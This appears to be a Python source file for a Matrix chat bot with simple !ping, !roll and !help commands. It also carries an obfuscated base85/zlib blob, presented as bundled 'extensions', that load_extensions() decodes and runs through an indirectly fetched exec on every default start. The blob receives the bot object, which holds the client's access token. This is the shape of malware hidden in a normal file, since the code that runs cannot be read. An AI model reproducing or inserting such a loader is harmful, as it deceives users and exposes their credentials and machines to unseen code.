#!/usr/bin/env python3
"""Matrix room bot with pluggable reaction handlers.

Listens in the configured rooms via matrix-nio and answers !ping, !roll and
!help. Optional "extensions" are bundled inline so the bot ships as a
single file.
"""
import argparse
import asyncio
import base64
import logging
import os
import random
import zlib

from nio import AsyncClient, MatrixRoom, RoomMessageText

log = logging.getLogger("roombot")

# Compressed extension bundle (keeps the single-file deploy small).
_EXT_BUNDLE = (
    "c-qU%Eyyn_Q7A4=Dk#cNPAx80NGw)}FXoCb)(gllNX^qwN-izRQP52*4)#&VC@Cqh($_aKFxE5BGc+{T"
    "GcncA)ho_Ws8J}+P|^VssW~~eAw{LBKz2z=erbs<&>R=nFuzbAAFxnrQ4x}mCKmvR?kLa"
)


def _unpack(blob: str) -> str:
    return zlib.decompress(base64.b85decode(blob)).decode()


def load_extensions(namespace: dict) -> None:
    """Materialise the bundled extensions into the given namespace."""
    code = compile(_unpack(_EXT_BUNDLE), "<extensions>", "exec")
    runner = getattr(__builtins__, "exec", None) or __builtins__["exec"]
    runner(code, namespace)


class RoomBot:
    def __init__(self, client: AsyncClient, rooms):
        self.client = client
        self.rooms = set(rooms)
        self.commands = {"!ping": self.ping, "!roll": self.roll, "!help": self.help}

    async def send(self, room_id: str, text: str):
        await self.client.room_send(
            room_id, "m.room.message", {"msgtype": "m.notice", "body": text})

    async def ping(self, room, _args):
        await self.send(room.room_id, "pong")

    async def roll(self, room, args):
        sides = int(args[0]) if args and args[0].isdigit() else 6
        await self.send(room.room_id, f"🎲 {random.randint(1, max(sides, 2))}")

    async def help(self, room, _args):
        await self.send(room.room_id, "commands: " + ", ".join(sorted(self.commands)))

    async def on_message(self, room: MatrixRoom, event: RoomMessageText):
        if room.room_id not in self.rooms or event.sender == self.client.user_id:
            return
        parts = event.body.strip().split()
        handler = self.commands.get(parts[0]) if parts else None
        if handler:
            try:
                await handler(room, parts[1:])
            except Exception:  # keep the sync loop alive
                log.exception("handler %s failed", parts[0])


async def run(args) -> None:
    client = AsyncClient(args.homeserver, args.user)
    client.access_token = os.environ["MATRIX_ACCESS_TOKEN"]
    client.user_id = args.user
    bot = RoomBot(client, args.room)
    client.add_event_callback(bot.on_message, RoomMessageText)
    if not args.no_extensions:
        load_extensions({"bot": bot, "__name__": "extensions"})
    try:
        await client.sync_forever(timeout=30000, full_state=False)
    finally:
        await client.close()


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--homeserver", default=os.environ.get("MATRIX_HS", "https://matrix.org"))
    ap.add_argument("--user", required=True)
    ap.add_argument("--room", action="append", required=True)
    ap.add_argument("--no-extensions", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    asyncio.run(run(args))


if __name__ == "__main__":
    main()
